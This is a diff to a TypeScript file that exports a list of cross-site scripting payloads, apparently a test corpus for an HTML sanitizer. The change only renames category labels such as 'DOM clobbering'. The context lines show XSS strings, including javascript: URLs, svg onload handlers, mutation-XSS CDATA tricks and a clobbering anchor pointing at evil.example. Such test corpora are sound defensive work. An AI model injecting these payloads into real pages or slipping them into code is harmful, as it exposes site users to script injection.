@@ -34,7 +34,7 @@ export const PAYLOADS: Record<string, string[]> = {
     '<iframe onload=alert(1) src="https://www.youtube.com/embed/x"></iframe>',
     '<table background="javascript:alert(1)" onclick=alert(1)><tr><td>x</table>',
   ],
-  'script addresses': [
+  'script URLs': [
     '<a href="javascript:alert(1)">x</a>',
     '<a href="JaVaScRiPt:alert(1)">x</a>',
     '<a href="jav\tascript:alert(1)">x</a>',
@@ -107,7 +107,7 @@ export const PAYLOADS: Record<string, string[]> = {
     '<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></c></x></xml>',
     '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]><html onload=alert(1)>',
   ],
-  'svg, math and mutation': [
+  'SVG, MathML and mutation XSS': [
     '<svg onload=alert(1)>',
     '<svg><script>alert(1)</script></svg>',
     '<svg/onload=alert(1)//',
@@ -137,7 +137,7 @@ export const PAYLOADS: Record<string, string[]> = {
     '<code>&lt;img src=x onerror=alert(1)&gt;</code><pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>',
     '&lt;script&gt;alert(1)&lt;/script&gt; and &amp;lt;img src=x onerror=alert(1)&amp;gt;',
   ],
-  'taking over names': [
+  'DOM clobbering': [
     '<img name=getElementById><form id=x><input name=attributes></form>',
     '<a id=config href="https://evil.example">x</a><a id=config name=url href="data:,x">x</a>',
     '<p id=currentScript>x</p><a href="#currentScript">x</a>',
